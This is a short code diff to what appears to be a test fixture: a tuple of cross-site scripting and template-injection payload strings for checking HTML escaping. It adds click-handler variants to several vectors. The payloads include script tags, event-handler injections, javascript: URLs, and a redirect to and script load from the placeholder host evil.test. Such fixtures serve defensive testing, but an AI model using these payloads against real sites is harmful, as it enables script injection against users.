@@ -15,14 +15,14 @@ VECTORS = (
     "'><svg onload=alert(2)>",
     "<script>alert(3)</script>",
     "</textarea></title></style><img src=x onerror=alert(4)>",
-    '" autofocus tabindex=0 onfocus=alert(5) x="',
-    "' style='position:fixed;inset:0' onmouseover='alert(6)",
+    '" autofocus onfocus=alert(5) <q onclick=alert(5)> x="',
+    "' style='inset:0' onclick='alert(6)' <q onclick=alert(6)> x='",
     '<a href="javascript:alert(7)">x</a>',
-    "{{7*7}}{%raw%}${7*7}",
+    "{{7*7}}<q onclick=alert(0)>{%raw%}${7*7}",
     '<div hx-get="/danger" hx-trigger="load" data-live="x" data-src="/danger">',
     '<iframe srcdoc="<script>parent.alert(8)</script>"></iframe>',
     '<base href="//evil.test"><meta http-equiv=refresh content="0;url=//evil.test">',
-    "\u202e\u2066<b>\x1b[31m]]>--></b>",
+    "\u202e\u2066<b onclick=alert(0)>\x1b[31m]]>--></b>",
     "</script><script type=module src=//evil.test></script>",
 )
 URL = "javascript:alert(9)//"
